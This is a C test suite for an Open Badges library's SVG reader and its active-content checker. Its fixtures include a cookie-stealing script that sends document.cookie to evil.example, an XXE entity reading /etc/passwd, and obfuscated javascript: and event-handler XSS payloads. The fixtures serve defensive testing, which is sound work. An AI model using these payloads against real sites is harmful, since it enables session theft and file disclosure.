/* test-svg.c: SVG unbaking: namespaces, bodies, hostile and broken XML.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "credence-badge.h"
#include "credence-limits.h"
#include "credence-svg.h"

#define OB2_JSON \
  "{\"@context\":\"https://w3id.org/openbadges/v2\",\"type\":\"Assertion\"," \
  "\"id\":\"https://example.org/a.json\",\"badge\":\"https://example.org/b.json\"," \
  "\"recipient\":{\"type\":\"email\",\"hashed\":false,\"identity\":\"nobody@example.org\"}," \
  "\"verification\":{\"type\":\"hosted\"},\"issuedOn\":\"2016-12-31T23:59:59Z\"}"

static CredenceBadge *
read_svg (const char  *text,
          gsize        length,
          GError     **error)
{
  g_autoptr(GBytes) bytes = g_bytes_new (text, length);

  return credence_badge_new_from_bytes (bytes, "test.svg", error);
}

static CredenceBadge *
assert_svg_ok (const char *text)
{
  g_autoptr(GError) error = NULL;
  CredenceBadge *badge = read_svg (text, strlen (text), &error);

  g_assert_no_error (error);
  g_assert_nonnull (badge);
  g_assert_cmpint (credence_badge_get_container (badge), ==, CREDENCE_CONTAINER_SVG);
  return badge;
}

static void
assert_svg_error (const char *text,
                  int         code)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(CredenceBadge) badge = read_svg (text, strlen (text), &error);

  if (badge != NULL)
    g_error ("read a badge from: %s", text);
  g_assert_error (error, CREDENCE_BADGE_ERROR, code);
}

static void
test_svg_any_prefix (void)
{
  g_autoptr(CredenceBadge) a = assert_svg_ok (
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:ob=\"http://openbadges.org\">"
    "<ob:assertion verify=\"https://example.org/a.json\"/></svg>");
  g_autoptr(CredenceBadge) b = assert_svg_ok (
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><g>"
    "<assertion xmlns=\"http://openbadges.org\"><![CDATA[" OB2_JSON "]]></assertion></g></svg>");

  g_assert_cmpstr (credence_badge_get_location_name (a), ==, "ob:assertion");
  g_assert_cmpstr (credence_badge_get_location_part (a), ==, "verify");
  g_assert_cmpint (credence_badge_get_format (a), ==, CREDENCE_BADGE_FORMAT_URL_ONLY);
  g_assert_cmpint (credence_badge_get_location_offset (a), ==, 73);

  g_assert_cmpstr (credence_badge_get_location_name (b), ==, "assertion");
  g_assert_cmpstr (credence_badge_get_location_part (b), ==, "body");
  g_assert_cmpint (credence_badge_get_spec_version (b), ==, CREDENCE_SPEC_VERSION_2_0);

  /* The OB 3.0 element never holds a URL. */
  assert_svg_error ("<s:svg xmlns:s=\"http://www.w3.org/2000/svg\" xmlns:x=\"https://purl.imsglobal.org/ob/v3p0\">"
                    "<x:credential verify=\"https://example.org/a.json\"/></s:svg>",
                    CREDENCE_BADGE_ERROR_INVALID_DATA);
}

static void
test_svg_byte_order_mark (void)
{
  g_autoptr(CredenceBadge) badge = assert_svg_ok (
    "\xEF\xBB\xBF<?xml version=\"1.0\"?>\n<svg xmlns:openbadges=\"http://openbadges.org\">"
    "<openbadges:assertion verify=\"https://example.org/a\"/></svg>");

  g_assert_cmpint (credence_badge_get_location_offset (badge), ==, 71);
}

static void
test_svg_namespace_must_match (void)
{
  /* The prefix is bound to another namespace: not a badge element. */
  assert_svg_error ("<svg xmlns:openbadges=\"http://example.org/other\">"
                    "<openbadges:assertion verify=\"https://example.org/a.json\"/></svg>",
                    CREDENCE_BADGE_ERROR_NOT_A_BADGE);
  /* The right namespace, another local name. */
  assert_svg_error ("<svg xmlns:openbadges=\"http://openbadges.org\">"
                    "<openbadges:badge verify=\"https://example.org/a.json\"/></svg>",
                    CREDENCE_BADGE_ERROR_NOT_A_BADGE);
  /* A namespace declared on a sibling does not apply. */
  assert_svg_error ("<svg><g xmlns:ob=\"http://openbadges.org\"/>"
                    "<ob:assertion verify=\"https://example.org/a.json\"/></svg>",
                    CREDENCE_BADGE_ERROR_NOT_A_BADGE);
}

static void
test_svg_undeclared_conventional_prefix (void)
{
  g_autoptr(CredenceBadge) badge = assert_svg_ok (
    "<svg><openbadges:assertion verify=\"https://example.org/a.json\"></openbadges:assertion></svg>");

  g_assert_cmpstr (credence_badge_get_url (badge), ==, "https://example.org/a.json");
}

static void
test_svg_escaped_body (void)
{
  g_autoptr(CredenceBadge) badge = assert_svg_ok (
    "<svg xmlns:openbadges=\"http://openbadges.org\"><openbadges:assertion>\n"
    "  {&quot;@context&quot;:&quot;https://w3id.org/openbadges/v2&quot;,&quot;type&quot;:&quot;Assertion&quot;,"
    "&quot;recipient&quot;:{&quot;type&quot;:&quot;email&quot;,&quot;hashed&quot;:false,&quot;identity&quot;:&quot;a@b.c&quot;},"
    "&quot;badge&quot;:&quot;https://example.org/b?x=1&amp;y=2&quot;}\n"
    "</openbadges:assertion></svg>");

  g_assert_cmpstr (credence_badge_get_achievement_id (badge), ==, "https://example.org/b?x=1&y=2");
}

static void
test_svg_script_ignored (void)
{
  g_autoptr(CredenceBadge) badge = assert_svg_ok (
    "<svg xmlns:openbadges=\"http://openbadges.org\">"
    "<script>alert('x'); var b = {\"verify\": 1};</script>"
    "<openbadges:assertion verify=\"https://example.org/a.json\"/>"
    "<script type=\"text/javascript\"><![CDATA[document.location='https://evil.example/'+document.cookie]]></script>"
    "</svg>");
  gsize length = 0;
  const char *payload = g_bytes_get_data (credence_badge_get_payload (badge), &length);

  g_assert_cmpmem (payload, length, "https://example.org/a.json", 26);
  assert_svg_error ("<svg><script>{\"@context\":\"https://w3id.org/openbadges/v2\"}</script></svg>",
                    CREDENCE_BADGE_ERROR_NOT_A_BADGE);
}

static void
test_svg_no_entities (void)
{
  g_autoptr(CredenceBadge) badge = NULL;

  /* External and internal entities are never expanded, nothing is fetched. */
  assert_svg_error ("<?xml version=\"1.0\"?>\n"
                    "<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                    "<svg xmlns:openbadges=\"http://openbadges.org\">"
                    "<openbadges:assertion>&xxe;</openbadges:assertion></svg>",
                    CREDENCE_BADGE_ERROR_MALFORMED_IMAGE);
  /* An external DTD is skipped. */
  badge = assert_svg_ok ("<?xml version=\"1.0\"?>\n"
                         "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n"
                         "<svg xmlns:openbadges=\"http://openbadges.org\"><openbadges:assertion verify=\"https://example.org/a\"/></svg>");
  g_assert_cmpstr (credence_badge_get_url (badge), ==, "https://example.org/a");
}

static void
test_svg_malformed (void)
{
  static const char *const broken[] = {
    "<svg><openbadges:assertion verify=\"https://example.org/a\"></svg>",
    "<svg xmlns:openbadges=\"http://openbadges.org\"><openbadges:assertion verify=\"https://example.org/a\"/>",
    "<svg><g></svg></g>",
    "<svg a=\"1\" a=\"2\"/>",
    "<svg>\xFF\xFE</svg>",
    "<svg><rest-of-document...></svg>",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (broken); i++)
    assert_svg_error (broken[i], CREDENCE_BADGE_ERROR_MALFORMED_IMAGE);
}

static void
test_svg_not_svg (void)
{
  assert_svg_error ("<html><body>hello</body></html>", CREDENCE_BADGE_ERROR_NOT_A_BADGE);
  assert_svg_error ("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg>", CREDENCE_BADGE_ERROR_NOT_A_BADGE);
}

static void
test_svg_empty_badge (void)
{
  assert_svg_error ("<svg xmlns:openbadges=\"http://openbadges.org\"><openbadges:assertion>  \n"
                    "<![CDATA[]]></openbadges:assertion></svg>",
                    CREDENCE_BADGE_ERROR_INVALID_DATA);
  assert_svg_error ("<svg xmlns:openbadges=\"http://openbadges.org\"><openbadges:assertion>"
                    "<![CDATA[{verify: 1}]]></openbadges:assertion></svg>",
                    CREDENCE_BADGE_ERROR_INVALID_DATA);
}

static void
test_svg_two_badges (void)
{
  g_autoptr(CredenceBadge) same = assert_svg_ok (
    "<svg xmlns:openbadges=\"http://openbadges.org\">"
    "<openbadges:assertion verify=\"https://example.org/a\"/>"
    "<openbadges:assertion verify=\"https://example.org/a\"/></svg>");

  g_assert_nonnull (same);
  assert_svg_error ("<svg xmlns:openbadges=\"http://openbadges.org\">"
                    "<openbadges:assertion verify=\"https://example.org/a\"/>"
                    "<openbadges:assertion verify=\"https://example.org/b\"/></svg>",
                    CREDENCE_BADGE_ERROR_MALFORMED_IMAGE);
}

static char *
read_corpus (const char *relative,
             gsize      *length)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "corpus", relative, NULL);
  char *contents = NULL;

  g_assert_true (g_file_get_contents (path, &contents, length, NULL));
  return contents;
}

static void
test_svg_signature_wins (void)
{
  gsize jws_length = 0;
  g_autofree char *jws = read_corpus ("1edtech-dc-public-validator/ob20/simple.jwt", &jws_length);
  g_autofree char *svg = NULL;
  g_autoptr(CredenceBadge) badge = NULL;

  g_strstrip (jws);
  svg = g_strdup_printf ("<svg xmlns:openbadges=\"http://openbadges.org\">"
                         "<openbadges:assertion verify=\"%s\"><![CDATA[" OB2_JSON "]]></openbadges:assertion></svg>",
                         jws);
  badge = assert_svg_ok (svg);
  g_assert_cmpint (credence_badge_get_format (badge), ==, CREDENCE_BADGE_FORMAT_SIGNED);
  g_assert_cmpstr (credence_badge_get_location_part (badge), ==, "verify");
}

static void
test_svg_depth (void)
{
  GString *deep = g_string_new ("<svg xmlns:openbadges=\"http://openbadges.org\">");
  GString *ok = g_string_new ("<svg xmlns:openbadges=\"http://openbadges.org\">");
  g_autoptr(CredenceBadge) badge = NULL;

  for (int i = 0; i < 100000; i++)
    g_string_append (deep, "<g>");
  assert_svg_error (deep->str, CREDENCE_BADGE_ERROR_TOO_LARGE);

  for (int i = 1; i < CREDENCE_LIMIT_SVG_DEPTH - 1; i++)
    g_string_append (ok, "<g>");
  g_string_append (ok, "<openbadges:assertion verify=\"https://example.org/a\"/>");
  for (int i = 1; i < CREDENCE_LIMIT_SVG_DEPTH - 1; i++)
    g_string_append (ok, "</g>");
  g_string_append (ok, "</svg>");
  badge = assert_svg_ok (ok->str);
  g_assert_nonnull (badge);

  g_string_free (deep, TRUE);
  g_string_free (ok, TRUE);
}

static void
test_svg_huge (void)
{
  GString *svg = g_string_new ("<svg xmlns:openbadges=\"http://openbadges.org\">");
  g_autoptr(CredenceBadge) badge = NULL;
  g_autoptr(GError) error = NULL;
  gsize offset;

  while (svg->len < 20 * 1024 * 1024)
    g_string_append (svg, "<path d=\"M0 0L10 10L20 0Z\" fill=\"#E44D26\"/>\n");
  offset = svg->len;
  g_string_append (svg, "<openbadges:assertion verify=\"https://example.org/a\"/></svg>");
  badge = assert_svg_ok (svg->str);
  g_assert_cmpint (credence_badge_get_location_offset (badge), ==, (gint64)offset);

  /* Over the input limit: refused before parsing. */
  while (svg->len <= CREDENCE_LIMIT_INPUT_SIZE)
    g_string_append (svg, "<!-- padding padding padding padding padding padding padding -->\n");
  g_clear_object (&badge);
  badge = read_svg (svg->str, svg->len, &error);
  g_assert_null (badge);
  g_assert_error (error, CREDENCE_BADGE_ERROR, CREDENCE_BADGE_ERROR_TOO_LARGE);

  g_string_free (svg, TRUE);
}

static void
test_svg_truncation (void)
{
  gsize length = 0;
  g_autofree char *svg = read_corpus ("1edtech-dc-public-validator/ob30/simple-json.svg", &length);

  for (gsize cut = 0; cut < length; cut += 37)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(CredenceBadge) badge = read_svg (svg, cut, &error);

      g_assert_null (badge);
      g_assert_nonnull (error);
    }
}

#define SVG_OPEN "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
#define XHTML "xmlns:h=\"http://www.w3.org/1999/xhtml\""

static void
assert_content (const char         *svg,
                CredenceSvgContent  expected)
{
  CredenceSvgContent content = credence_svg_check_content ((const guint8 *)svg, strlen (svg));

  if (content != expected)
    g_error ("content %d, not %d, for: %s", content, expected, svg);
}

/* What a web site must not publish as it is: each found by the parser,
 * whatever the spelling. */
static void
test_svg_content_active (void)
{
  static const struct { const char *svg; CredenceSvgContent content; } cases[] = {
    /* Scripts and handlers. */
    { SVG_OPEN "<script>fetch('http://127.0.0.1:9/')</script></svg>", CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<script xlink:href=\"https://evil.test/x.js\"/></svg>", CREDENCE_SVG_CONTENT_SCRIPT },
    { "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<rect ONCLICK=\"alert(1)\"/></svg>", CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<g xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></g></svg>",
      CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<a xlink:href=\"java&#x09;script:alert(1)\"><rect/></a></svg>", CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<a href=\" JAVASCRIPT:alert(1)\"><rect/></a></svg>", CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<a href=\"#x\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/><rect/></a></svg>",
      CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<a href=\"#x\"><animate attributeName=\"xlink:href\" values=\"#a;#b\"/></a></svg>",
      CREDENCE_SVG_CONTENT_SCRIPT },
    { SVG_OPEN "<rect style=\"width: expression(alert(1))\"/></svg>", CREDENCE_SVG_CONTENT_SCRIPT },
    /* Documents inside. */
    { SVG_OPEN "<foreignObject><h:iframe " XHTML " src=\"https://evil.test/\"/></foreignObject></svg>",
      CREDENCE_SVG_CONTENT_EMBEDDED },
    { SVG_OPEN "<h:embed " XHTML " src=\"x\"/></svg>", CREDENCE_SVG_CONTENT_EMBEDDED },
    { SVG_OPEN "<h:object " XHTML " data=\"x\"/></svg>", CREDENCE_SVG_CONTENT_EMBEDDED },
    { SVG_OPEN "<image href=\"data:image/svg+xml;base64,PHN2Zy8+\"/></svg>", CREDENCE_SVG_CONTENT_EMBEDDED },
    /* Other files. */
    { SVG_OPEN "<image xlink:href=\"https://evil.test/x.png\"/></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<use href=\"other.svg#x\"/></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<filter id=\"f\"><feImage href=\"//evil.test/x\"/></filter></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<rect style=\"fill: url(http://evil.test/x)\"/></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<rect fill=\"URL( 'https://evil.test/#g' )\"/></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<style>rect { fill: url(\"http://evil.test/x\") }</style></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    /* Split across a CDATA section, still one style sheet. */
    { SVG_OPEN "<style>@imp<![CDATA[ort 'https://evil.test/x.css';]]></style></svg>",
      CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<style>@font-face { src: url(https://evil.test/f.woff) }</style></svg>",
      CREDENCE_SVG_CONTENT_EXTERNAL },
    { SVG_OPEN "<g xml:base=\"https://evil.test/\"><rect/></g></svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { "<?xml-stylesheet href=\"https://evil.test/x.css\"?>" SVG_OPEN "</svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    { "<!DOCTYPE svg SYSTEM \"https://evil.test/x.dtd\">" SVG_OPEN "</svg>", CREDENCE_SVG_CONTENT_EXTERNAL },
    /* Not on the list. */
    { "<!DOCTYPE svg [<!ENTITY x \"y\">]>" SVG_OPEN "</svg>", CREDENCE_SVG_CONTENT_OTHER },
    { "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"https://evil.test/p\"> %p;]>" SVG_OPEN "</svg>",
      CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<rect style=\"fill: \\75 rl(http://evil.test/x)\"/></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<!--><img src=x onerror=alert(1)>--><rect/></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<desc><![CDATA[x><img src=x onerror=alert(1)>]]></desc></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<x:thing xmlns:x=\"urn:example\"/></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<discard/></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<style><g/></style></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<image href=\"\"/></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?>" SVG_OPEN "</svg>", CREDENCE_SVG_CONTENT_OTHER },
    { "<?php echo 1 ?>" SVG_OPEN "</svg>", CREDENCE_SVG_CONTENT_OTHER },
    { "<svg><rect/></svg>", CREDENCE_SVG_CONTENT_OTHER },
    { "<html xmlns=\"http://www.w3.org/2000/svg\"/>", CREDENCE_SVG_CONTENT_OTHER },
    { SVG_OPEN "<rect>", CREDENCE_SVG_CONTENT_OTHER },
    { "", CREDENCE_SVG_CONTENT_OTHER },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    assert_content (cases[i].svg, cases[i].content);

  /* A NUL byte: XML has none, so the browser would read something else. */
  {
    static const char nul[] = SVG_OPEN "<rect/>\0<script>alert(1)</script></svg>";

    g_assert_cmpint (credence_svg_check_content ((const guint8 *)nul, sizeof nul - 1), ==,
                     CREDENCE_SVG_CONTENT_OTHER);
  }
}

static void
test_svg_content_plain (void)
{
  static const char * const corpus[] = {
    "1edtech-dc-public-validator/ob30/simple-json.svg",
    "1edtech-dc-public-validator/ob30/simple-jwt.svg",
    "mozilla-openbadges-bakery/baked.svg",
  };
  static const char * const plain[] = {
    "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n"
    "<!-- Created with Inkscape (http://www.inkscape.org/) -->\n"
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n"
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"\n"
    "     xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\"\n"
    "     xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns:cc=\"http://creativecommons.org/ns#\"\n"
    "     xmlns:dc=\"http://purl.org/dc/elements/1.1/\" viewBox=\"0 0 64 64\" xml:space=\"preserve\">\n"
    "<title>Teamwork</title><desc>A badge &amp; its &lt;shape&gt;</desc>\n"
    "<metadata><rdf:RDF><cc:Work rdf:about=\"\"><dc:format>image/svg+xml</dc:format>"
    "<cc:license rdf:resource=\"http://creativecommons.org/licenses/by/4.0/\"/></cc:Work></rdf:RDF></metadata>\n"
    "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#3584e4\"/></linearGradient>"
    "<filter id=\"f\"><feGaussianBlur stdDeviation=\"2\"/></filter>"
    "<style><![CDATA[ .a > rect { fill: url( '#g' ); } ]]></style></defs>\n"
    "<g inkscape:label=\"Layer 1\" class=\"a\" filter=\"url(#f)\"><rect id=\"r\" width=\"64\" height=\"64\" "
    "style=\"stroke: url(#g)\"/>"
    "<use xlink:href=\"#r\" x=\"2\"/><a href=\"#r\"><text>Go</text></a>"
    "<image width=\"1\" height=\"1\" href=\"data:image/png;base64,iVBORw0KGgo=\"/>"
    "<animateTransform attributeName=\"transform\" type=\"rotate\" from=\"0\" to=\"360\" dur=\"5s\"/></g>\n"
    "<openbadges:assertion xmlns:openbadges=\"http://openbadges.org\" verify=\"https://example.org/a.json\">"
    "<![CDATA[{\"a\": \"<b>\"}]]></openbadges:assertion>\n"
    "</svg>\n",
    /* A prefix on the SVG namespace is still SVG. */
    "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:rect width=\"1\" height=\"1\"/></s:svg>",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (corpus); i++)
    {
      gsize length = 0;
      g_autofree char *svg = read_corpus (corpus[i], &length);

      g_assert_cmpint (credence_svg_check_content ((const guint8 *)svg, length), ==, CREDENCE_SVG_CONTENT_PLAIN);
    }
  for (gsize i = 0; i < G_N_ELEMENTS (plain); i++)
    assert_content (plain[i], CREDENCE_SVG_CONTENT_PLAIN);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/svg/any-prefix", test_svg_any_prefix);
  g_test_add_func ("/svg/byte-order-mark", test_svg_byte_order_mark);
  g_test_add_func ("/svg/namespace-must-match", test_svg_namespace_must_match);
  g_test_add_func ("/svg/undeclared-conventional-prefix", test_svg_undeclared_conventional_prefix);
  g_test_add_func ("/svg/escaped-body", test_svg_escaped_body);
  g_test_add_func ("/svg/script-ignored", test_svg_script_ignored);
  g_test_add_func ("/svg/no-entities", test_svg_no_entities);
  g_test_add_func ("/svg/malformed", test_svg_malformed);
  g_test_add_func ("/svg/not-svg", test_svg_not_svg);
  g_test_add_func ("/svg/empty-badge", test_svg_empty_badge);
  g_test_add_func ("/svg/two-badges", test_svg_two_badges);
  g_test_add_func ("/svg/signature-wins", test_svg_signature_wins);
  g_test_add_func ("/svg/depth", test_svg_depth);
  g_test_add_func ("/svg/huge", test_svg_huge);
  g_test_add_func ("/svg/truncation", test_svg_truncation);
  g_test_add_func ("/svg/content-active", test_svg_content_active);
  g_test_add_func ("/svg/content-plain", test_svg_content_plain);

  return g_test_run ();
}
